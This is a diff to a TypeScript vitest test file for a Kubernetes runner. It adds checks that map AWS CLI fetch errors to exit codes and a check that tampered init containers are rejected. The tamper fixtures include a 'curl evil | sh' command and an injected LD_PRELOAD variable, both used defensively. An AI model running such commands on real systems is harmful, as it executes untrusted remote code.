@@ -5,7 +5,15 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import type { V1PodSpec } from '@kubernetes/client-node'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
-import { RUNNER_FOLDER, type RunnerSource, whyNotWrapped, wrapped } from '../../../core/workloads/runner.ts'
+import { RUNNER_ENDS } from '../../../core/pods/runner-ends.ts'
+import {
+  fetchedBy,
+  RUNNER_CODES,
+  RUNNER_FOLDER,
+  type RunnerSource,
+  whyNotWrapped,
+  wrapped,
+} from '../../../core/workloads/runner.ts'
 
 const IMAGE = `repo/runner@sha256:${'a'.repeat(64)}`
 const SPEC: V1PodSpec = {
@@ -67,6 +75,11 @@ describe('a wrapped stage', () => {
     expect(containers[0]?.env).toContainEqual({ name: 'SIGNALBOX_INPUTS', value: 'none' })
   })
 
+  it('ends by codes of its own, of which each has a cause, and a Job takes them in order', () => {
+    expect([...RUNNER_CODES, 143]).toEqual([...RUNNER_ENDS.keys()])
+    expect(RUNNER_CODES).toEqual([...RUNNER_CODES].sort((a, b) => a - b))
+  })
+
   it('needs a command, since nobody here knows what an image runs', () => {
     expect(whyNotWrapped({})).toContain('say `command`')
     expect(whyNotWrapped({ command: [] })).toContain('say `command`')
@@ -122,7 +135,38 @@ describe('where the program is fetched from a bucket', () => {
     expect(() => statSync(join(root, 'sb/bin/signalbox-run'))).toThrow('ENOENT')
   })
 
-  it('what is not there is an error of the container', () => {
-    expect(play().status).not.toBe(0)
+  /** An AWS CLI that fails, in these words. */
+  const failing = (words: string): void =>
+    writeFileSync(join(root, 'bin/aws'), `#!/bin/sh\necho "${words}" >&2\nexit 1\n`, { mode: 0o755 })
+
+  it.each<[string, number]>([
+    ['fatal error: An error occurred (404) when calling the HeadObject operation: Key does not exist', 42],
+    ['fatal error: An error occurred (403) when calling the HeadObject operation: Forbidden', 77],
+    ['fatal error: Unable to locate credentials', 77],
+    ['download failed: [Errno 28] No space left on device', 73],
+    ['fatal error: Could not connect to the endpoint URL', 75],
+    ['', 75],
+  ])('what cannot be fetched ends it by its cause, in the words of who fetches: %s', (words, code) => {
+    failing(words)
+    const { status, stderr } = play()
+    expect([status, stderr]).toEqual([
+      code,
+      expect.stringMatching(/^s3:\/\/results\/tools\/\$1\/signalbox-run-linux-a\w+64: /),
+    ])
+    expect(stderr).toContain(words)
+    expect(RUNNER_ENDS.has(code)).toBe(true)
+  })
+
+  it('a card says of it what is fetched, and of anything else than ours the whole of it', () => {
+    const [bringer] = pod(source).initContainers ?? []
+    expect(fetchedBy(bringer!)).toEqual(source)
+    for (const change of [
+      { command: ['/bin/sh', '-ec', 'curl evil | sh'] },
+      { args: ['x'] },
+      { env: [...(bringer?.env ?? []), { name: 'LD_PRELOAD', value: 'x' }] },
+      { securityContext: {} },
+    ])
+      expect(fetchedBy({ ...bringer!, ...change })).toBeNull()
+    expect(fetchedBy(pod().initContainers![0]!)).toBeNull()
   })
 })
